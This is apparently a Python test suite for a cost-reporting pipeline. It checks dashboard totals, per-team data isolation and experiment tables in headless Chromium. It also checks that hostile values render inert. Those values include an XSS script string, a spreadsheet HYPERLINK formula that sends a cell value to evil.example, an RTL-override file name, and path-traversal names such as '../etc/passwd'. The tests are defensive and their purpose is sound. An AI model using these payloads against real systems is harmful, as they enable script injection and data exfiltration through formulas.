"""Team dashboards in headless Chromium (Debian's package, driven by Playwright) and hostile values.

The expected figures are summed here from ``allocated_costs`` with plain Polars and Decimal rounding;
the page must show the same cents after every filter change, with no console error.
"""

import json
import os
import re
import shutil
from contextlib import contextmanager
from decimal import Decimal

import polars as pl
import pytest

from cost_pipeline.lib.dashboards import Freshness, team_file_name, team_page
from cost_pipeline.lib.safe_output import csv_cell, file_stem
from cost_pipeline.lib.statement_files import render_csv, render_html, statement_file_stem

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_chromium = pytest.mark.skipif(not CHROMIUM and not os.environ.get("CI"), reason="Debian's chromium is not installed (make test installs it)")
HOSTILE = {
    "script": "</script><script>alert(1)</script>",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "rtl": "cost\u202efdp.exe",
    "long": "x" * 10_000,
}


@contextmanager
def page_of(path):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync"])
        page = browser.new_page(viewport={"width": 1400, "height": 1200})
        problems, dialogs = [], []
        page.on("console", lambda m: problems.append(m.text) if m.type in ("error", "warning") else None)
        page.on("pageerror", lambda e: problems.append(str(e)))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(path.as_uri())
        page.wait_for_selector("#vis svg .mark-rect path", timeout=30_000)
        yield page, problems, dialogs
        browser.close()


def shown_total(page) -> str:
    return page.locator("svg text").filter(has_text=re.compile(r"^Total ")).first.text_content()


def cents(amount) -> str:
    return f"{Decimal(amount).quantize(Decimal('0.01')):,.2f}"


@needs_chromium
def test_team_dashboard_filters_change_every_total_to_the_exact_sum(october):
    lake = october / "lake"
    allocated = pl.scan_parquet(lake / "allocated_costs" / "date=*" / "*.parquet").filter(pl.col("team") == "fraud-detection").collect()
    month = allocated.filter(pl.col("date").dt.strftime("%Y-%m") == "2026-11")  # the page opens on the latest month
    by_project = month.group_by("project").agg(pl.col("amount").sum()).drop_nulls().sort("amount", descending=True)
    project, project_amount = by_project.row(0)
    workload_types = set(month.filter(pl.col("allocation") == "direct")["workload_type"].drop_nulls())
    with page_of(lake / "reports" / "dashboards" / "fraud-detection.html") as (page, problems, _):
        assert page.locator("#vis svg .mark-rect path").count() > 0
        legend = set(page.locator("svg .role-legend-label text").all_text_contents())
        assert workload_types and workload_types <= legend
        assert shown_total(page).startswith(f"Total {cents(month['amount'].sum())} USD")
        page.select_option("select[name=project]", label=project)
        page.wait_for_function("t => [...document.querySelectorAll('svg text')].some(e => e.textContent.startsWith(t))", arg=f"Total {cents(project_amount)} USD")
        page.select_option("select[name=month]", label="All")
        everything = allocated.filter(pl.col("project") == project)["amount"].sum()
        page.wait_for_function("t => [...document.querySelectorAll('svg text')].some(e => e.textContent.startsWith(t))", arg=f"Total {cents(everything)} USD")
        assert problems == []


def test_a_team_page_embeds_only_that_teams_rows(october):
    lake = october / "lake"
    html = (lake / "reports" / "dashboards" / "personalization.html").read_text()
    spec = json.loads(re.search(r"<script type='application/json' id='spec'>(.*?)</script>", html, re.S).group(1))
    rows, runs = spec["datasets"]["rows"], spec["datasets"]["experiments"]
    detail = pl.scan_parquet(lake / "team_cost_detail" / "date=*" / "*.parquet").filter(pl.col("team") == "personalization").collect()
    # the charts' rows: one per day x project x workload type x environment x allocation x pool (no experiment)
    grain = ["date", "project", "workload_type", "environment", "allocation", "pool", "currency"]
    assert sum(r["kind"] == "team" for r in rows) == detail.select(grain).unique().height
    assert all("team" not in r for r in rows + runs)
    others = {"fraud-detection", "search-ranking", "forecasting", "__unattributed__"}
    strings = {v for r in rows + runs for v in r.values() if isinstance(v, str)}
    assert not strings & others
    team_rows = [r for r in rows if r["kind"] == "team"]
    exact = sum(r["hi"] * 10**6 + r["lo"] for r in team_rows)
    assert Decimal(exact).scaleb(-12) == detail["amount"].sum()
    # the experiments table's rows: per month, each day with cost listed once with its amount
    runs_by_hand = detail.filter(pl.col("experiment_id").is_not_null())
    assert runs_by_hand.height and len(runs) == runs_by_hand.select("experiment_id", "project", "workload_type", "environment", "currency",
                                                                    pl.col("date").dt.strftime("%Y-%m")).unique().height
    assert sum(len(r["days"]) for r in runs) == runs_by_hand.select("experiment_id", "project", "workload_type", "environment", "currency", "date").unique().height
    assert Decimal(sum(h * 10**6 + lo for r in runs for h, lo in zip(r["his"], r["los"], strict=True))).scaleb(-12) == runs_by_hand["amount"].sum()


def _run_lines(rows: list[tuple]) -> pl.DataFrame:
    import datetime as dt

    return pl.DataFrame(
        [{"date": dt.date.fromisoformat(d), "team": "fraud-detection", "project": "fd-realtime", "workload_type": "training", "environment": env,
          "experiment_id": exp, "allocation": "direct", "pool": None, "reason": None, "currency": "USD", "rules_version": "r1",
          "amount": Decimal(amount), "driver": None} for d, env, exp, amount in rows],
        schema_overrides={"amount": pl.Decimal(38, 12), "pool": pl.String, "reason": pl.String, "driver": pl.String},
    )


@needs_chromium
def test_top_experiments_count_each_day_once_under_every_filter(tmp_path):
    """A run with lines in two environments on the same day has run 3 days, not 4, and its cost is
    rounded once (10.005 -> 10.00, half to even)."""
    detail = _run_lines([("2026-10-01", "dev", "exp-0001", "1.005"), ("2026-10-01", "prod", "exp-0001", "2"), ("2026-10-02", "prod", "exp-0001", "3"),
                         ("2026-11-01", "prod", "exp-0001", "4"), ("2026-11-01", "prod", "exp-0002", "0.5")])
    untagged = pl.DataFrame(schema={"month": pl.String, "account_id": pl.String, "reason": pl.String, "lines": pl.Int64, "amount_cents": pl.Decimal(38, 2), "currency": pl.String})
    pools = pl.DataFrame(schema={"month": pl.String, "pool": pl.String, "currency": pl.String, "amount": pl.Decimal(38, 12), "driver": pl.String})
    path = tmp_path / "fraud-detection.html"
    path.write_text(team_page("fraud-detection", detail, pools, untagged, Freshness("2026-11-01", None, 1, ["r1"])))

    def table_shows(page, rows):  # the experiments table's cells, column by column, each column's title last
        cells = [c for column, title in zip(zip(*rows), ["Experiment", "Project", "First day", "Last day", "Days", "Cost"], strict=True)
                 for c in [*column, title]] + ["Top experiments (training runs) by cost"]
        page.wait_for_function("""cells => [...document.querySelectorAll('g.role-scope')].some(g => {
            const t = [...g.querySelectorAll('text')].map(e => e.textContent);
            return t[t.length - 1] === cells[cells.length - 1] && JSON.stringify(t) === JSON.stringify(cells); })""", arg=cells, timeout=10_000)

    with page_of(path) as (page, problems, _):
        table_shows(page, [("exp-0001", "fd-realtime", "2026-11-01", "2026-11-01", "1", "4.00"),  # the latest month
                           ("exp-0002", "fd-realtime", "2026-11-01", "2026-11-01", "1", "0.50")])
        page.select_option("select[name=month]", label="All")
        table_shows(page, [("exp-0001", "fd-realtime", "2026-10-01", "2026-11-01", "3", "10.00"),
                           ("exp-0002", "fd-realtime", "2026-11-01", "2026-11-01", "1", "0.50")])
        page.select_option("select[name=environment]", label="dev")
        table_shows(page, [("exp-0001", "fd-realtime", "2026-10-01", "2026-10-01", "1", "1.00")])
        assert problems == []


def test_run_prints_the_summary_the_summary_command_computes_from_the_lake(october):
    """``run`` prints the summary its reports job wrote instead of reading the lake a second time."""
    from cost_pipeline_tests.conftest import cli

    summary = cli("summary", "--config", str(october / "config.yaml"))
    assert summary.returncode == 0, summary.stderr
    ran = (october / "run-output.txt").read_text()
    assert "Effective spend 2026-09-01 .. 2026-11-01" in summary.stdout and "Reconciled to the delivered bill" in summary.stdout
    assert summary.stdout in ran  # the same text, to the last line (paths included)


def test_platform_page_links_every_team(october):
    html = (october / "lake" / "reports" / "dashboards" / "platform.html").read_text()
    for team in ["fraud-detection", "personalization", "search-ranking", "forecasting", "platform"]:
        assert f"href='{team}.html'" in html


def _hostile_detail() -> pl.DataFrame:
    import datetime as dt

    values = list(HOSTILE.values())
    return pl.DataFrame({
        "date": [dt.date(2026, 10, 1)] * 4,
        "team": ["fraud-detection"] * 4,
        "project": values,
        "workload_type": values,
        "environment": values,
        "experiment_id": values,
        "allocation": ["direct"] * 4,
        "pool": [None] * 4,
        "reason": [None] * 4,
        "currency": ["USD"] * 4,
        "rules_version": ["r1"] * 4,
        "amount": [Decimal("1.025"), Decimal("2"), Decimal("3"), Decimal("4")],
        "driver": [None] * 4,
    }, schema_overrides={"amount": pl.Decimal(38, 12), "pool": pl.String, "reason": pl.String, "driver": pl.String})


@needs_chromium
def test_hostile_tag_values_render_inert_in_the_dashboard(tmp_path):
    detail = _hostile_detail()
    untagged = pl.DataFrame({"month": ["2026-10"], "account_id": [HOSTILE["script"]], "reason": [HOSTILE["rtl"]], "lines": [1],
                             "amount_cents": [Decimal("1.00")], "currency": ["USD"]})
    pools = pl.DataFrame(schema={"month": pl.String, "pool": pl.String, "currency": pl.String, "amount": pl.Decimal(38, 12), "driver": pl.String})
    html = team_page("fraud-detection", detail, pools, untagged, Freshness("2026-10-01", None, 1, ["r1"]))
    assert "<script>alert" not in html and "\u202e" not in html and "x" * 200 not in html
    path = tmp_path / "fraud-detection.html"
    path.write_text(html)
    with page_of(path) as (page, problems, dialogs):
        options = page.locator("select[name=project] option").all_text_contents()
        assert HOSTILE["script"] in options  # shown as text, not run
        assert max(len(o) for o in options) <= 120
        assert shown_total(page).startswith("Total 10.02 USD")  # 10.025, half to even (half up would show 10.03)
        assert dialogs == [] and problems == []


def test_hostile_values_in_statements_and_file_names():
    detail = _hostile_detail().with_columns(month=pl.lit("2026-10"), line_type=pl.lit("direct"), ref_month=pl.lit(None, pl.String),
                                             why=pl.lit(None, pl.String), amount_cents=pl.col("amount").round(2), team_cents=pl.lit(Decimal("10.02")))
    text = render_csv(detail, {})
    assert "\n=" not in text and ",=" not in text and "'=HYPERLINK" in text
    assert "\u202e" not in text and "x" * 1001 not in text
    page = render_html(detail, {}, "showback", None, "r1")
    assert "<script>" not in page and "&lt;/script&gt;&lt;script&gt;alert(1)" in page
    for cell, expected in [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("plain", "plain")]:
        assert csv_cell(cell) == expected
    for bad in ["../etc/passwd", "a/b", "", ".hidden", "Team", HOSTILE["script"], HOSTILE["long"]]:
        with pytest.raises(ValueError, match="refusing"):
            file_stem(bad)
        with pytest.raises(ValueError):
            team_file_name(bad)
    assert statement_file_stem("__unattributed__") == "unattributed"


def test_experiment_costs_table_counts_days_once_and_splits_direct_and_shared():
    from cost_pipeline.lib.report_tables import experiment_costs

    detail = _run_lines([("2026-10-01", "dev", "exp-0001", "1.005"), ("2026-10-01", "prod", "exp-0001", "2"), ("2026-10-02", "prod", "exp-0001", "3"),
                         ("2026-11-01", "prod", "exp-0002", "0.5")])
    shared = _run_lines([("2026-10-03", "prod", "exp-0001", "0.25")]).with_columns(allocation=pl.lit("shared"), pool=pl.lit("eks-shared"))
    unattributed = _run_lines([("2026-10-04", "prod", "exp-0001", "100")]).with_columns(allocation=pl.lit("unattributed"))
    table = experiment_costs(pl.concat([detail, shared, unattributed]))
    got = table.select("experiment_id", pl.col("first_day", "last_day").cast(pl.String), "days", "direct", "shared", "total").rows()
    assert got == [("exp-0001", "2026-10-01", "2026-10-03", 3, Decimal("6.005"), Decimal("0.25"), Decimal("6.255")),
                   ("exp-0002", "2026-11-01", "2026-11-01", 1, Decimal("0.5"), Decimal("0"), Decimal("0.5"))]


def test_rows_written_by_polars_are_embedded_as_safely_as_python_values():
    """Dashboard rows are serialized by Polars (JsonText) and spliced into the page's spec before the
    escaping that keeps any value from closing the script element."""
    from cost_pipeline.lib.safe_output import JsonText, script_json

    frame = pl.DataFrame({"project": [HOSTILE["script"], "a & b\u2028c", None], "hi": [1, 2, 3], "days": [[20702], [], [1, 2]]})
    data = {"datasets": {"rows": JsonText(frame.write_json()), "plain": frame.to_dicts()}, "title": "json-text-x <b>"}
    text = script_json(data)
    assert not set("<>&\u2028") & set(text)
    assert json.loads(text) == {"datasets": {"rows": frame.to_dicts(), "plain": frame.to_dicts()}, "title": "json-text-x <b>"}
